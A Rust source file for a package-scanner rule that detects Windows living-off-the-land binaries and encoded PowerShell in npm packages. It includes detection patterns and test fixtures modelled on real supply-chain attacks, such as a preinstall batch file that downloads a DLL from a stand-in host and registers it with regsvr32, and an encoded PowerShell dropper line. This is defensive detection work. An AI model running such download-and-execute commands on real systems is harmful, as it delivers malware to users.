//! `code/windows-lolbin`.

use super::{chain, finding, locality, per_signal};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Windows living-off-the-land binaries and hidden or encoded PowerShell.
    ///
    /// ## What it detects
    /// `regsvr32`, `mshta`, `rundll32`, `certutil -urlcache|-decode`, `bitsadmin /transfer`, `powershell -enc`,
    /// `-EncodedCommand`, `-WindowStyle Hidden`, `IEX`/`Invoke-Expression`/`DownloadString` in strings, decoded data,
    /// command lines or scripts of a package that spawns processes or writes files.
    ///
    /// ## Why it matters
    /// These signed system tools download and run code while looking like Windows itself (coa/rc 2021 dropped a
    /// batch file that fetched a DLL and ran it with regsvr32; the hijacked eslint-config-prettier releases of July
    /// 2025 loaded a DLL they shipped with `rundll32` from their install script: critical).
    ///
    /// ## Example
    /// `spawn('cmd.exe', ['/c', 'regsvr32 /s x.dll'])`
    ///
    /// ## Known false positives
    /// Windows build helpers call `rundll32` or PowerShell openly; encoded or hidden invocations are what matter.
    /// Without a spawn or file write in the same file (in a bundle: the same function) the rule is quiet (a shell, batch or PowerShell file is itself a
    /// command: in one that install-time code starts, the rule is critical; in one nothing starts at install (`xdg-open` opening
    /// a URL with `rundll32 url.dll,FileProtocolHandler`), medium). URL openers (the `open` package, bundled
    /// by dev servers) pass `-EncodedCommand` as a lone argument with a payload base64-encoded at run time from
    /// a command visible in the code: a flag with no constant payload in the same string is low (a command built in the code is searched like
    /// any other string: `IEX(`, `DownloadString(` in it are still found).
    pub static WINDOWS_LOLBIN = { id: "code/windows-lolbin", severity: Severity::High };
}

/// One finding per LOLBin line in a spawning/writing file.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    per_signal(p, Kind::LolBin, |f, s| {
        // A command line (lifecycle script, script file, binding.gyp expansion) runs what it
        // names: it needs no spawn elsewhere.
        let command = crate::scripts::in_command(f, s.line);
        let needs = [Kind::Spawn, Kind::FsWrite, Kind::LifecycleScript];
        let loc = if command {
            Locality::Function
        } else if f.has_any(&needs) {
            locality(p, f, s, &needs)
        } else {
            // A shell template in a module next to one that spawns (a completion script in a
            // CLI bundle) runs nothing by itself.
            return None;
        };
        if loc < Locality::File {
            return None;
        }
        // Run on every install: no benign reading left.
        let in_script = command && crate::scripts::at_install(f, s.line);
        // Install-time code loading a DLL or binary the package ships with a system tool
        // (`rundll32 node-gyp.dll,main`: the Scavenger loader of eslint-config-prettier, 2025).
        let bundled = f.install_time
            && f.of(Kind::RunsFile).any(|r| {
                r.line == s.line
                    && p.files.iter().any(|x| {
                        x.kind == crate::classify::FileKind::NativeBinary
                            && crate::shell::file_key(&x.path) == crate::shell::file_key(&r.detail)
                    })
            });
        // `rundll32 url.dll,FileProtocolHandler <url>`, its arguments within the next lines:
        // how URL openers (h3's CLI, `open`) start the browser without cmd.exe parsing the URL.
        let opens_url = s.detail.to_ascii_lowercase().contains("rundll32")
            && (s.line..s.line + 5).any(|l| {
                f.snippet(l)
                    .to_ascii_lowercase()
                    .contains("url.dll,fileprotocolhandler")
            });
        let severity = if in_script || bundled {
            Severity::Critical
        } else if opens_url {
            Severity::Low
        } else if command {
            // A script nothing starts at install: `xdg-open` (bundled by `open`) calls
            // `rundll32 url.dll,FileProtocolHandler` to open a URL under WSL.
            Severity::Medium
        } else if is_bare_encoded_flag(&s.detail) {
            Severity::Low
        } else {
            WINDOWS_LOLBIN.default_severity
        };
        let msg = format!("Windows living-off-the-land execution: `{}`", s.detail);
        Some(finding(
            &WINDOWS_LOLBIN,
            severity,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::Spawn, Kind::FsWrite]),
        ))
    })
}

/// `-EncodedCommand` / `-enc` as a lone argument: no constant payload follows it in the same
/// string (see [`crate::text::scan_str`], which appends the next token to the detail).
fn is_bare_encoded_flag(detail: &str) -> bool {
    let d = detail.trim().to_ascii_lowercase();
    d == "-encodedcommand" || d == "–encodedcommand"
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    /// h3's CLI opens its URL with rundll32's URL handler (arguments on the next lines).
    #[test]
    fn negative_url_opener() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "bin/cli.mjs",
                "import { spawn } from 'node:child_process';\nexport function openUrl(url) {\n  const [cmd, ...args] = process.platform === 'win32'\n    ? [`${process.env.SystemRoot}\\\\System32\\\\rundll32.exe`,\n       'url.dll,FileProtocolHandler', url]\n    : ['xdg-open', url];\n  spawn(cmd, args, { stdio: 'ignore', detached: true }).unref();\n}\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/windows-lolbin");
        assert_eq!(f.severity, diligence_finding::Severity::Low, "{f:?}");
    }

    #[test]
    fn positive() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "w.js",
                "const cp = require('child_process');\ncp.exec('regsvr32 /s %TEMP%\\\\x.dll');\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/windows-lolbin"),
            vec![("w.js".to_string(), 2)]
        );
    }

    #[test]
    fn negative_docs() {
        let s = scan(&[
            ("package.json", PJ),
            ("w.md", "Never run regsvr32 on untrusted files.\n"),
        ]);
        assert!(hits(&s, "code/windows-lolbin").is_empty());
    }

    /// The `open` package bundled in dev servers: `-EncodedCommand` is one argv element and the
    /// payload is encoded at run time from the URL to open.
    #[test]
    fn bare_encoded_flag_is_low_inline_payload_is_high() {
        let open = "const cp = require('child_process');\nfunction open(url) {\n  const args = ['-NoProfile', '-NonInteractive', '-ExecutionPolicy', 'Bypass',\n    '-EncodedCommand'];\n  args.push(Buffer.from(`Start ${url}`, 'utf16le').toString('base64'));\n  return cp.spawn('powershell', args);\n}\nmodule.exports = open;\n";
        let s = scan(&[("package.json", PJ), ("open.js", open)]);
        assert_eq!(
            hits(&s, "code/windows-lolbin"),
            vec![("open.js".to_string(), 4), ("open.js".to_string(), 6)]
        );
        assert!(
            s.findings
                .iter()
                .all(|f| f.severity == diligence_finding::Severity::Low)
        );
        assert_eq!(s.verdict, crate::Verdict::Clean);
        let dropper = "const cp = require('child_process');\ncp.exec('powershell -EncodedCommand JABjAD0AbgBlAHcALQBvAGIAagBlAGMAdAA=');\n";
        let s = scan(&[("package.json", PJ), ("d.js", dropper)]);
        assert_eq!(
            hits(&s, "code/windows-lolbin"),
            vec![("d.js".to_string(), 2)]
        );
        assert_eq!(s.findings[0].severity, diligence_finding::Severity::High);
    }

    /// ua-parser-js 0.7.29: the preinstall starts a batch file that registers a downloaded DLL.
    #[test]
    fn batch_file_started_at_install() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"scripts\":{\"preinstall\":\"node pre.js\"}}",
            ),
            (
                "pre.js",
                "const { spawn } = require('child_process');\nif (process.platform === 'win32') spawn('cmd.exe', ['/c', 'pre.bat']);\n",
            ),
            (
                "pre.bat",
                "@echo off\r\ncurl https://c.example.net/a.dll -o a.dll\r\nregsvr32.exe -s a.dll\r\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/windows-lolbin"),
            vec![("pre.bat".to_string(), 3)]
        );
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/windows-lolbin"),
            Some(diligence_finding::Severity::Critical)
        );
    }

    /// vitest's CLI bundle holds a PowerShell completion-script template (`Invoke-Expression`);
    /// the module that spawns is another file.
    #[test]
    fn negative_template_next_to_a_spawning_module() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "completion.js",
                "export const ps = (t) => `Invoke-Expression -OutVariable out \"$RequestComp\"`;\n",
            ),
            (
                "run.js",
                "import { ps } from './completion.js';\nimport { spawn } from 'child_process';\nexport const run = () => spawn('x', [ps('y')]);\n",
            ),
        ]);
        assert!(hits(&s, "code/windows-lolbin").is_empty());
    }

    /// Install-time JavaScript loading a DLL the package ships with rundll32.
    #[test]
    fn bundled_dll_loaded_at_install_is_critical() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"scripts\":{\"install\":\"node install.js\"}}",
            ),
            (
                "install.js",
                "const { spawn } = require('child_process');\nif (process.platform === 'win32') spawn('rundll32', ['node-gyp.dll,main'], { detached: true, stdio: 'ignore' });\n",
            ),
            (
                "node-gyp.dll",
                "MZ\u{90}\u{0}\u{3}\u{0}\u{0}\u{0}\u{4}\u{0}",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/windows-lolbin");
        assert_eq!(
            (f.file.as_str(), f.line, f.severity),
            ("install.js", 2, diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }
}
